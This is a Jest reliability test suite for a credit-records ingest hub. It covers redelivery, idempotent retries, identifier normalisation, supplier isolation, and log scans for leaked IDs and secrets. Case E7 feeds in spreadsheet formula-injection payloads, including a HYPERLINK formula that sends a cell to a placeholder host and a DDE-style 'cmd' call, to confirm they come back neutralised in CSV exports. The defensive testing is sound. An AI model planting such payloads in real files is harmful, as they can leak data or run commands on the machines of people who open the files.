import * as amqp from 'amqplib';
import { parse } from 'csv-parse/sync';
import { request as httpRequest } from 'node:http';
import { citizenIdCheckCharacter } from '../../../libs/domain/identity/check-characters';
import { QUEUES } from '../../../libs/bus/messages';
import { citizenId, penaltyRecord, personPenaltyRecord, uscc, withWrongCheck } from '../../fixtures/credit-data';
import { ADMIN_TOKEN, batchReport, push, querySubject, registerSupplier, waitForBatchDone } from '../../support/hub-client';
import { HubProcess, sleep, startHubProcess } from '../../support/hub-process';
import { Observation, reconcile, reliabilityCase } from '../../support/reliability';
import { createTestDatabase, createTestVhost, withDatabase } from '../../support/test-services';

jest.setTimeout(180_000);

const ITEM = 'administrative_penalty';

/**
 * Plan cases B4, D9, E6, E7, F6 and F9 against one services hub (PostgreSQL + RabbitMQ), with
 * the api and the worker as separate processes so a case can hold the worker back.
 */
describe('reliability: the services hub at its edges', () => {
  let database: Awaited<ReturnType<typeof createTestDatabase>>;
  let vhost: Awaited<ReturnType<typeof createTestVhost>>;
  let api: HubProcess;
  let worker: HubProcess | undefined;
  let apiKey: string;
  let otherKey: string;
  let env: Record<string, string>;
  /** Every citizen ID a case sent, for F9's scan of the captured logs. */
  const personalIds = new Set<string>();
  const secrets = new Set<string>([ADMIN_TOKEN]);

  beforeAll(async () => {
    database = await createTestDatabase();
    vhost = await createTestVhost();
    env = { DATABASE_URL: database.url, AMQP_URL: vhost.url, HUB_ADMIN_TOKEN: ADMIN_TOKEN, HUB_DEMO_SUPPLIER: 'off' };
    api = await startHubProcess({ app: 'api', env });
    apiKey = await registerSupplier(api.url, 'rel-a', [ITEM]);
    otherKey = await registerSupplier(api.url, 'rel-b', [ITEM, 'administrative_license']);
    secrets.add(apiKey).add(otherKey);
  });

  afterAll(async () => {
    await worker?.stop();
    await api?.stop();
    await database?.drop();
    await vhost?.drop();
  });

  const startWorker = async () => {
    worker ??= await startHubProcess({ app: 'worker', env });
  };

  reliabilityCase(
    {
      id: 'B4',
      group: 'B database',
      title: 'a chunk delivered again after its commit (crash between commit and ack) loads nothing twice',
      channel: 'REST JSON, services',
      input: '1,000 records (2 chunks) pushed; copies of both chunk messages taken off the queue before the worker ran, and published again after the batch was done',
      expected: 'the redelivered chunks are acknowledged without a second row, version or rejection; the batch stays done with the same counts',
    },
    async () => {
      const records = Array.from({ length: 1_000 }, (_, i) => penaltyRecord(400_000 + i, { source_key: `B4-${i}` }));
      const accepted = await push(api.url, apiKey, ITEM, JSON.stringify(records), { idempotencyKey: 'b4' });
      expect(accepted.status).toBe(202);
      const copies = await takeCopies(vhost.url, 2);
      await startWorker();
      const done = await waitForBatchDone(api.url, apiKey, accepted.body.batchId as string);
      expect(done.loaded).toBe(1_000);
      const before = await versionCount(database.url, 'B4-');
      await republish(vhost.url, copies);
      // A later batch done means the worker went past the copies (one queue, in order).
      const marker = await push(api.url, apiKey, ITEM, JSON.stringify([penaltyRecord(401_000, { source_key: 'B4marker' })]));
      await waitForBatchDone(api.url, apiKey, marker.body.batchId as string);
      await waitForQueueEmpty(vhost.url);
      const after = await batchReport(api.url, apiKey, accepted.body.batchId as string);
      expect({ status: after.status, loaded: after.loaded, rejected: after.rejected }).toEqual({ status: 'done', loaded: 1_000, rejected: 0 });
      expect(await versionCount(database.url, 'B4-')).toEqual(before);
      const keys = records.map((r) => r.source_key as string);
      const ledger = await reconcile(database.url, keys);
      return {
        ...ledger,
        observed: `202; 2 chunk copies redelivered after done; batch still done 1000/0; ${after.loaded} rows, versions ${before.versions} before and after`,
        accepted: keys.length,
        answers500: 0,
      };
    },
  );

  reliabilityCase(
    {
      id: 'D9',
      group: 'D connector',
      title: 'a push retried with the same Idempotency-Key after its 202 was lost gets the same batch',
      channel: 'REST JSON, services',
      input: '500 records POSTed with Idempotency-Key d9; the client drops the connection once the hub accepted, before reading the answer; then POSTs the same body and key again',
      expected: 'the retry is answered 202 with the first batch id (replayed); the records load once; one live batch holds the key',
    },
    async () => {
      await startWorker();
      const records = Array.from({ length: 500 }, (_, i) => penaltyRecord(410_000 + i, { source_key: `D9-${i}` }));
      const body = JSON.stringify(records);
      await postAndDropAnswer(api.url, apiKey, body, 'd9', () => liveBatches(database.url, 'd9').then((b) => b.some((x) => x.status !== 'receiving')));
      let retry = await push(api.url, apiKey, ITEM, body, { idempotencyKey: 'd9' });
      for (let i = 0; retry.status === 409 && i < 100; i++) {
        await sleep(200);
        retry = await push(api.url, apiKey, ITEM, body, { idempotencyKey: 'd9' });
      }
      expect(retry.status).toBe(202);
      const batches = await liveBatches(database.url, 'd9');
      expect(batches).toHaveLength(1);
      expect(retry.body.batchId).toBe(batches[0].id);
      const done = await untilAnswered(() => waitForBatchDone(api.url, apiKey, retry.body.batchId as string));
      expect(done.loaded).toBe(500);
      const keys = records.map((r) => r.source_key as string);
      const ledger = await reconcile(database.url, keys);
      expect(await versionCount(database.url, 'D9-')).toEqual({ rows: 500, versions: 500 });
      return { ...ledger, observed: `first answer dropped after the hub accepted; the retry answered 202 with the first batch id; 1 live batch; 500 rows, 500 versions`, accepted: 500, answers500: 0 };
    },
  );

  reliabilityCase(
    {
      id: 'E6',
      group: 'E hostile input',
      title: 'identifier and number edge cases are normalised or rejected with a code, never rounded or duplicated',
      channel: 'REST JSON, services',
      input:
        'USCC in full-width characters, with inner spaces, lower case, a wrong check character; citizen ID with a bad birth date; amount with a decimal comma and an exponent; decision date 2023-02-30; source keys 9007199254740993 (a JSON number above 2^53) and "9007199254740993" (a string)',
      expected: 'each record loads once (the normalised code, same subject as the plain one) or is rejected with its code; no key is rounded into another; no 500',
    },
    async () => {
      await startWorker();
      const n = 420_000;
      const plain = uscc(n);
      const fullWidth = [...plain].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join('');
      const badBirth = '350203' + '19990230' + '123';
      const records: Record<string, unknown>[] = [
        penaltyRecord(n, { source_key: 'E6-plain' }),
        penaltyRecord(n, { source_key: 'E6-fullwidth', subject_code: fullWidth }),
        penaltyRecord(n, { source_key: 'E6-spaces', subject_code: `${plain.slice(0, 6)} ${plain.slice(6, 12)} ${plain.slice(12)}` }),
        penaltyRecord(n, { source_key: 'E6-lower', subject_code: plain.toLowerCase() }),
        penaltyRecord(n + 1, { source_key: 'E6-badcheck', subject_code: withWrongCheck(uscc(n + 1)) }),
        personPenaltyRecord(n + 2, { source_key: 'E6-badbirth', subject_code: badBirth + citizenIdCheckCharacter(badBirth) }),
        penaltyRecord(n + 3, { source_key: 'E6-comma', fine_amount: '5000,00' }),
        penaltyRecord(n + 4, { source_key: 'E6-exponent', fine_amount: '5e3' }),
        penaltyRecord(n + 5, { source_key: 'E6-feb30', decision_date: '2023-02-30' }),
        penaltyRecord(n + 6, { source_key: '9007199254740993' }),
      ];
      personalIds.add(badBirth + citizenIdCheckCharacter(badBirth));
      // The same key once more, as a JSON number: JSON.parse would make it 9007199254740992.
      const body = JSON.stringify(records).replace(/\]$/, `,${JSON.stringify(penaltyRecord(n + 7, { source_key: 0 })).replace('"source_key":0', '"source_key":9007199254740993')}]`);
      const accepted = await push(api.url, apiKey, ITEM, body);
      expect(accepted.status).toBe(202);
      const report = await waitForBatchDone(api.url, apiKey, accepted.body.batchId as string);
      expect(report.loaded + report.rejected).toBe(records.length + 1);
      const codes = Object.fromEntries(report.rejections.map((r) => [r.sourceKey ?? `#${r.index}`, r.code]));
      expect(codes['E6-badcheck']).toBe('USCC_CHECKSUM');
      expect(codes['E6-badbirth']).toBe('CITIZEN_ID_BIRTHDATE');
      expect(codes['E6-feb30']).toBe('INVALID_DATE');
      const stored = await withDatabase(database.url, async (db) =>
        (
          await db.query<{ source_key: string; subject_code: string; fine: string | null }>(
            `SELECT source_key, subject_code, fields->>'fine_amount' AS fine FROM credit_records WHERE source_key LIKE 'E6-%' OR source_key LIKE '90071992547409%'`,
          )
        ).rows,
      );
      const byKey = new Map(stored.map((r) => [r.source_key, r]));
      // Whatever was loaded under a normalised code is the plain subject, not a second one.
      for (const k of ['E6-fullwidth', 'E6-spaces', 'E6-lower']) {
        if (byKey.has(k)) expect(byKey.get(k)?.subject_code).toBe(plain);
        else expect(codes[k]).toMatch(/^USCC_/);
      }
      // A loaded amount is a plain decimal; otherwise the record is rejected for it.
      for (const k of ['E6-comma', 'E6-exponent']) {
        if (byKey.has(k)) expect(byKey.get(k)?.fine).toMatch(/^\d+(\.\d+)?$/);
        else expect(codes[k]).toBe('INVALID_FORMAT');
      }
      // The number above 2^53 is never stored under a rounded key.
      expect(byKey.has('9007199254740992')).toBe(false);
      expect(report.rejections.filter((r) => r.field === 'source_key').map((r) => [r.sourceKey, r.code])).toEqual([[`index:${records.length}`, 'INVALID_FORMAT']]);
      const keys = [...records.map((r) => String(r.source_key)), `index:${records.length}`];
      const ledger = await reconcile(database.url, keys);
      return {
        ...ledger,
        observed: `202; ${report.loaded} loaded, ${report.rejected} rejected: ${Object.entries(codes)
          .map(([k, c]) => `${k}→${c}`)
          .join(', ')}; normalised codes stored as ${[...new Set(['E6-fullwidth', 'E6-spaces', 'E6-lower'].map((k) => byKey.get(k)?.subject_code ?? 'rejected'))].join('/')}`,
        accepted: records.length + 1,
        loaded: report.loaded,
        rejected: report.rejected,
        answers500: 0,
      };
    },
  );

  reliabilityCase(
    {
      id: 'E7',
      group: 'E hostile input',
      title: 'spreadsheet formulas a supplier sent come back inert in the rejections CSV',
      channel: 'REST JSON → rejections CSV, services',
      input: 'rejected records whose source key and subject code are =HYPERLINK("http://x/?"&A1), +cmd, @SUM(1), -1+1, a leading TAB and a leading CR',
      expected: 'GET …/rejections?format=csv: every cell that would start with = + - @ TAB or CR starts with an apostrophe; each record is one parsed row',
    },
    async () => {
      await startWorker();
      const hostile = ['=HYPERLINK("http://x/?"&A1)', '+cmd|\' /C calc\'!A0', '@SUM(1)', '-1+1', '\t=1+1', '\r=1+1'];
      const records = hostile.map((h, i) => penaltyRecord(430_000 + i, { source_key: `${h}#${i}`, subject_code: h }));
      const accepted = await push(api.url, apiKey, ITEM, JSON.stringify(records));
      expect(accepted.status).toBe(202);
      const report = await waitForBatchDone(api.url, apiKey, accepted.body.batchId as string);
      expect(report.rejected).toBe(hostile.length);
      const response = await fetch(`${api.url}/api/v1/ingest/batches/${accepted.body.batchId as string}/rejections?format=csv`, { headers: { Authorization: `Bearer ${apiKey}` } });
      expect(response.status).toBe(200);
      const text = (await response.text()).replace(/^\ufeff/, '');
      const rows = parse(text, { relax_column_count: true }) as string[][];
      const cells = rows.slice(1).flat();
      const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
      expect(dangerous).toEqual([]);
      const neutralised = cells.filter((c) => /^'[=+\-@\t\r]/.test(c));
      expect(rows.length - 1).toBeGreaterThanOrEqual(hostile.length);
      expect(neutralised.length).toBeGreaterThanOrEqual(hostile.length);
      // The hub trims a source key (API.md), so the leading TAB and CR are not part of the key it reports.
      const keys = records.map((r) => (r.source_key as string).trim());
      const ledger = await reconcile(database.url, keys);
      return { ...ledger, observed: `${report.rejected} rejected; CSV ${rows.length - 1} rows, ${neutralised.length} cells neutralised with ', 0 starting with a formula character`, accepted: keys.length, answers500: 0 };
    },
  );

  reliabilityCase(
    {
      id: 'F6',
      group: 'F access and audit',
      title: "a supplier cannot act as another: identity comes from the key, server-owned fields are not taken",
      channel: 'REST JSON, services',
      input: "supplier A's key pushes records claiming supplier_id/supplier_code of B, status 'withdrawn' and access_level 'public'; pushes an item only B provides; reads B's batch report",
      expected: "403 ITEM_NOT_ALLOWED for B's item; A's records are stored as A's, active, never as B's; B's report is 404 BATCH_NOT_FOUND to A",
    },
    async () => {
      await startWorker();
      const forItem = await push(api.url, apiKey, 'administrative_license', '[]');
      expect(forItem.status).toBe(403);
      expect(forItem.body.error?.code).toBe('ITEM_NOT_ALLOWED');
      const bBatch = await push(api.url, otherKey, ITEM, JSON.stringify([penaltyRecord(440_100, { source_key: 'F6-b' })]));
      expect(bBatch.status).toBe(202);
      const bReport = await fetch(`${api.url}/api/v1/ingest/batches/${bBatch.body.batchId as string}`, { headers: { Authorization: `Bearer ${apiKey}` } });
      expect(bReport.status).toBe(404);
      expect(((await bReport.json()) as { error: { code: string } }).error.code).toBe('BATCH_NOT_FOUND');
      const bSupplier = await withDatabase(database.url, async (db) => (await db.query<{ id: string }>(`SELECT id FROM suppliers WHERE code = 'rel-b'`)).rows[0].id);
      const records = [0, 1].map((i) =>
        penaltyRecord(440_000 + i, { source_key: `F6-${i}`, supplier_id: bSupplier, supplier_code: 'rel-b', status: 'withdrawn', access_level: 'public' }),
      );
      const accepted = await push(api.url, apiKey, ITEM, JSON.stringify(records));
      expect(accepted.status).toBe(202);
      const report = await waitForBatchDone(api.url, apiKey, accepted.body.batchId as string);
      await waitForBatchDone(api.url, otherKey, bBatch.body.batchId as string);
      const stored = await withDatabase(database.url, async (db) =>
        (
          await db.query<{ source_key: string; supplier: string; status: string; carries: boolean }>(
            `SELECT r.source_key, s.code AS supplier, r.status, r.fields ?| array['supplier_id', 'supplier_code', 'status', 'access_level'] AS carries
             FROM credit_records r JOIN suppliers s ON s.id = r.supplier_id WHERE r.source_key LIKE 'F6-%' ORDER BY 1`,
          )
        ).rows,
      );
      // Loaded or rejected, a record never carries the server-owned fields it claimed.
      for (const row of stored.filter((r) => r.source_key !== 'F6-b')) expect({ supplier: row.supplier, status: row.status, carries: row.carries }).toEqual({ supplier: 'rel-a', status: 'active', carries: false });
      const keys = records.map((r) => r.source_key as string);
      const ledger = await reconcile(database.url, keys);
      return {
        ...ledger,
        observed: `B's item 403 ITEM_NOT_ALLOWED; B's report 404 to A; A's claimed-B records: ${report.loaded} loaded as rel-a/active without the claimed fields, ${report.rejected} rejected (${report.rejections.map((r) => r.code).join(', ') || 'none'})`,
        accepted: keys.length,
        answers500: 0,
      };
    },
  );

  reliabilityCase(
    {
      id: 'F9',
      group: 'F access and audit',
      title: 'no citizen ID and no secret in the captured logs of the api and the worker',
      channel: 'REST JSON + query edge, services',
      input: "after the cases above: persons' penalties loaded and rejected (bad check character, bad birth date), public queries by citizen ID, an unknown ID, a wrong key; then the api and worker logs are scanned",
      expected: 'no 18-character citizen ID with a valid check character that a case sent, and no API key or operator token, appears in any log line',
    },
    async () => {
      await startWorker();
      const people = Array.from({ length: 20 }, (_, i) => personPenaltyRecord(450_000 + i, { source_key: `F9-${i}` }));
      people.push(personPenaltyRecord(450_100, { source_key: 'F9-badcheck', subject_code: withWrongCheck(citizenId(450_100)) }));
      for (const p of people) personalIds.add(p.subject_code as string);
      personalIds.add(withWrongCheck(citizenId(450_100)));
      const accepted = await push(api.url, apiKey, ITEM, JSON.stringify(people));
      expect(accepted.status).toBe(202);
      const report = await waitForBatchDone(api.url, apiKey, accepted.body.batchId as string);
      let answers500 = 0;
      for (const id of [citizenId(450_000), citizenId(450_001), citizenId(459_999)]) {
        const q = await querySubject(api.url, id);
        if (q.status >= 500) answers500++;
      }
      expect((await push(api.url, `${apiKey}x`, ITEM, '[]')).status).toBe(401);
      const logs = `${api.logs()}\n${worker?.logs() ?? ''}`;
      const leakedIds = [...personalIds].filter((id) => logs.includes(id));
      const leakedSecrets = [...secrets].filter((s) => logs.includes(s));
      expect(leakedIds).toEqual([]);
      expect(leakedSecrets).toEqual([]);
      const keys = people.map((r) => r.source_key as string);
      const ledger = await reconcile(database.url, keys);
      return {
        ...ledger,
        observed: `${logs.split('\n').length} log lines scanned for ${personalIds.size} citizen IDs and ${secrets.size} secrets: none found; batch ${report.loaded} loaded, ${report.rejected} rejected`,
        accepted: keys.length,
        answers500,
      };
    },
  );
});

/** Takes `count` chunk messages off hub.records, keeps copies, and gives them back. */
async function takeCopies(amqpUrl: string, count: number): Promise<{ content: Buffer; headers: Record<string, unknown> }[]> {
  const connection = await amqp.connect(amqpUrl);
  try {
    const channel = await connection.createChannel();
    const copies: { content: Buffer; headers: Record<string, unknown>; message: amqp.GetMessage }[] = [];
    for (let i = 0; copies.length < count && i < 100; i++) {
      const message = await channel.get(QUEUES.records, { noAck: false });
      if (message) copies.push({ content: Buffer.from(message.content), headers: { ...(message.properties.headers ?? {}) }, message });
      else await sleep(100);
    }
    expect(copies).toHaveLength(count);
    for (const c of copies) channel.nack(c.message, false, true);
    await channel.close();
    return copies.map(({ content, headers }) => ({ content, headers }));
  } finally {
    await connection.close();
  }
}

async function republish(amqpUrl: string, copies: { content: Buffer; headers: Record<string, unknown> }[]): Promise<void> {
  const connection = await amqp.connect(amqpUrl);
  try {
    const channel = await connection.createConfirmChannel();
    for (const c of copies) channel.sendToQueue(QUEUES.records, c.content, { persistent: true, contentType: 'application/json', headers: c.headers });
    await channel.waitForConfirms();
  } finally {
    await connection.close();
  }
}

async function waitForQueueEmpty(amqpUrl: string): Promise<void> {
  const connection = await amqp.connect(amqpUrl);
  try {
    const channel = await connection.createChannel();
    for (const deadline = Date.now() + 60_000; (await channel.checkQueue(QUEUES.records)).messageCount > 0; ) {
      if (Date.now() > deadline) throw new Error('hub.records never emptied');
      await sleep(200);
    }
  } finally {
    await connection.close();
  }
}

async function versionCount(databaseUrl: string, prefix: string): Promise<{ rows: number; versions: number }> {
  return withDatabase(databaseUrl, async (db) => {
    const r = await db.query<{ rows: string; versions: string }>(
      `SELECT count(*) AS rows, (SELECT count(*) FROM credit_record_versions v JOIN credit_records x ON x.id = v.record_id WHERE x.source_key LIKE $1) AS versions
       FROM credit_records WHERE source_key LIKE $1`,
      [`${prefix}%`],
    );
    return { rows: Number(r.rows[0].rows), versions: Number(r.rows[0].versions) };
  });
}

async function liveBatches(databaseUrl: string, key: string): Promise<{ id: string; status: string }[]> {
  return withDatabase(databaseUrl, async (db) => (await db.query<{ id: string; status: string }>(`SELECT id, status FROM batches WHERE idempotency_key = $1 AND status <> 'aborted'`, [key])).rows);
}

/** Sends the whole request, waits until `accepted()` says the hub took it, then drops the connection unread. */
async function postAndDropAnswer(url: string, apiKey: string, body: string, idempotencyKey: string, accepted: () => Promise<boolean>): Promise<void> {
  const target = new URL(`${url}/api/v1/ingest/${ITEM}`);
  const req = httpRequest({
    host: target.hostname,
    port: target.port,
    path: target.pathname,
    method: 'POST',
    headers: { Authorization: `Bearer ${apiKey}`, 'Content-Type': 'application/json', 'Idempotency-Key': idempotencyKey, 'Content-Length': Buffer.byteLength(body) },
  });
  req.on('error', () => undefined);
  // The answer is never read: the response handler is not attached before the socket goes.
  req.end(body);
  for (const deadline = Date.now() + 60_000; !(await accepted()); ) {
    if (Date.now() > deadline) throw new Error('the first attempt was never accepted');
    await sleep(20);
  }
  req.destroy();
}

/** Retries a read once the client's kept-alive connection was reset under it (undici), a few times at most. */
async function untilAnswered<T>(read: () => Promise<T>): Promise<T> {
  for (let attempt = 1; ; attempt++) {
    try {
      return await read();
    } catch (e) {
      if (attempt >= 3 || (e as Error).message !== 'fetch failed') throw e;
      await sleep(500);
    }
  }
}

export type { Observation };
